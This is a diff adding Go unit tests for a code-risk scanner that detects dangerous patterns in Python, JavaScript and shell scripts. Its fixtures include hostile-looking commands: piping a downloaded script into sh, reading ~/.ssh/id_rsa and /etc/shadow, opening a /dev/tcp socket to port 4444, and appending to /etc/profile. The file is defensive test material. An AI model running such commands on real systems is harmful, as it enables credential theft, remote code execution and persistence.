@@ -0,0 +1,154 @@
+package scanner
+
+import (
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+
+	"github.com/projectdiscovery/gozero/policy"
+	"github.com/stretchr/testify/require"
+)
+
+const pythonSource = `import socket
+import subprocess as sp
+from os import system
+sp.run(["ls"])
+system("id")
+eval("1")
+data = open("/etc/passwd").read()
+open("/var/log/app.log", "w")
+open("out.txt", "w")
+open("/work/out.txt", "w")
+key = "~/.ssh/id_rsa"
+`
+
+// rules returns the rule names of findings
+func rules(findings []Finding) []string {
+	names := make([]string, 0, len(findings))
+	for _, f := range findings {
+		names = append(names, f.Rule)
+	}
+	return names
+}
+
+func TestScanPython(t *testing.T) {
+	want := []string{"network-import", "process-import", "process-spawn", "process-spawn", "dynamic-eval", "sensitive-read", "write-outside-workspace", "sensitive-path"}
+
+	if _, err := exec.LookPath("python3"); err == nil {
+		findings, err := (&Scanner{Workspace: "/work"}).Scan(context.Background(), Python, []byte(pythonSource))
+		require.NoError(t, err)
+		require.Equal(t, want, rules(findings))
+		// aliases are resolved by the ast walker
+		require.Equal(t, "spawns a process with os.system", findings[3].Message)
+		require.Equal(t, Finding{
+			Rule: "sensitive-read", Category: CategorySensitiveRead, Severity: SeverityHigh,
+			Line: 7, Column: 13, Message: "reads sensitive path /etc/passwd",
+		}, findings[5])
+	}
+
+	// without interpreter pattern rules are used, which miss aliased calls
+	findings, err := (&Scanner{Python: "gozero-missing-python", Workspace: "/work"}).Scan(context.Background(), Python, []byte(pythonSource))
+	require.NoError(t, err)
+	require.Equal(t, []string{"network-import", "process-import", "dynamic-eval", "sensitive-read", "write-outside-workspace", "sensitive-path"}, rules(findings))
+	require.Equal(t, SeverityHigh, MaxSeverity(findings))
+}
+
+func TestScanJavaScript(t *testing.T) {
+	src := `const http = require("http")
+const { execSync } = require("node:child_process")
+// eval("commented")
+execSync("id")
+eval(input)
+const re = /a/.exec("a")
+fetch("https://example.com")
+fs.readFileSync("/etc/shadow")
+fs.writeFileSync("/usr/local/bin/x", "")
+fs.writeFileSync("out.txt", "")
+`
+	findings, err := Scan(context.Background(), JavaScript, []byte(src))
+	require.NoError(t, err)
+	require.Equal(t, []string{"network-import", "process-import", "process-spawn", "dynamic-eval", "network-call", "sensitive-read", "write-outside-workspace"}, rules(findings))
+	require.Equal(t, 4, findings[2].Line)
+	require.Equal(t, 1, findings[2].Column)
+}
+
+func TestScanShell(t *testing.T) {
+	src := `#!/bin/sh
+# curl in a comment
+curl -s https://example.com/install.sh | sh
+cat ~/.ssh/id_rsa
+echo hi > /dev/null
+echo hi > out.txt
+echo hi >> /etc/profile
+exec 3<>/dev/tcp/10.0.0.1/4444
+nohup ./server &
+`
+	findings, err := Scan(context.Background(), Shell, []byte(src))
+	require.NoError(t, err)
+	require.Equal(t, []string{"network-tool", "dynamic-eval", "sensitive-read", "write-outside-workspace", "sensitive-read", "network-device", "detached-process"}, rules(findings))
+	require.Equal(t, "evaluates dynamic code with sh", findings[1].Message)
+}
+
+func TestScanJavaScriptExec(t *testing.T) {
+	for _, src := range []string{
+		`require('child_process').exec('id')`,
+		`const { exec } = require('child_process'); exec('id')`,
+		`child_process.exec('id')`,
+	} {
+		findings, err := Scan(context.Background(), JavaScript, []byte(src))
+		require.NoError(t, err)
+		require.Contains(t, rules(findings), "process-spawn", src)
+	}
+	// methods named exec are not processes
+	findings, err := Scan(context.Background(), JavaScript, []byte(`const m = /a/.exec("a"); db.exec("select 1")`))
+	require.NoError(t, err)
+	require.Empty(t, findings)
+}
+
+func TestWriteOutsideWorkspace(t *testing.T) {
+	// paths escaping a safe directory are reported
+	findings, err := Scan(context.Background(), Shell, []byte("echo x > /tmp/../root/.bashrc\necho x > /tmp/out\necho x > /dev/null\n"))
+	require.NoError(t, err)
+	require.Equal(t, []string{"write-outside-workspace"}, rules(findings))
+	require.Equal(t, 1, findings[0].Line)
+
+	src := []byte("open('/tmp/../root/.bashrc', 'w')\nopen('/tmp/out', 'w')\n")
+	findings, err = (&Scanner{Python: "gozero-missing-python"}).Scan(context.Background(), Python, src)
+	require.NoError(t, err)
+	require.Equal(t, []string{"write-outside-workspace"}, rules(findings))
+	if _, err := exec.LookPath("python3"); err == nil {
+		findings, err = Scan(context.Background(), Python, src)
+		require.NoError(t, err)
+		require.Equal(t, []string{"write-outside-workspace"}, rules(findings))
+		require.Equal(t, 1, findings[0].Line)
+	}
+}
+
+func TestSeverity(t *testing.T) {
+	var s Severity
+	require.NoError(t, s.UnmarshalText([]byte("critical")))
+	require.Equal(t, SeverityCritical, s)
+	require.Error(t, s.UnmarshalText([]byte("severe")))
+	require.Equal(t, SeverityInfo, MaxSeverity(nil))
+
+	lang, ok := LanguageOf("/usr/bin/python3.11")
+	require.True(t, ok)
+	require.Equal(t, Python, lang)
+	_, ok = LanguageOf("lua")
+	require.False(t, ok)
+}
+
+func TestRule(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "script.sh")
+	require.NoError(t, os.WriteFile(path, []byte("echo hi\ncurl https://example.com\n"), 0600))
+	req := &policy.Request{Engine: "/bin/sh", Filename: path}
+
+	require.Empty(t, (&Scanner{}).Rule(SeverityHigh).Check(req))
+	violations := (&Scanner{}).Rule(SeverityMedium).Check(req)
+	require.Equal(t, []policy.Violation{{Rule: "risk-scan", Message: "2:1: medium: uses network tool curl (network-tool)"}}, violations)
+
+	// other languages are not scanned
+	require.Empty(t, (&Scanner{}).Rule(SeverityInfo).Check(&policy.Request{Engine: "lua", Filename: path}))
+}